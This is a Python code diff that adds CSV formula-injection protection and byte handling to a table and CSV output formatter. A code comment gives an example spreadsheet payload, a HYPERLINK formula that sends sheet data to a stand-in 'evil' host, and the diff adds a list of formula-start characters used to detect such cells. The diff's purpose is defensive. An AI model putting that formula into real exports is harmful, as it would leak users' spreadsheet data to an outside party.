@@ -24,6 +24,8 @@ def format_option(default: str = "table", choices: Sequence[str] = FORMATS):
 
 def _cell(value: Any) -> str:
     # A post's escape sequences or direction overrides would act on the terminal or reorder the columns.
+    if isinstance(value, bytes | bytearray | memoryview):
+        value = _bytes_as_text(value)
     return excerpt("" if value is None else f"{value:.4g}" if isinstance(value, float) else str(value), TABLE_CELL)
 
 
@@ -38,12 +40,23 @@ def _table(rows: Iterable[dict[str, Any]], columns: Sequence[str], out: TextIO) 
     return len(cells)
 
 
+# A cell a spreadsheet would run as a formula: a post reading `=HYPERLINK("https://evil/?"&A1, "click")` would send
+# the sheet's data away on a click. Such text cells get a leading `'` (OWASP's advice), numbers stay as they are.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _csv_cell(value: Any) -> Any:
+    if isinstance(value, bytes | bytearray | memoryview):
+        value = _bytes_as_text(value)
+    return "'" + value if isinstance(value, str) and value.startswith(_FORMULA_START) else value
+
+
 def _csv(rows: Iterable[dict[str, Any]], columns: Sequence[str], out: TextIO) -> int:
     writer = csv.writer(out, lineterminator="\n")
     writer.writerow(columns)
     count = 0
     for count, row in enumerate(rows, start=1):
-        writer.writerow([row[c] for c in columns])
+        writer.writerow([_csv_cell(row[c]) for c in columns])
     return count
 
 
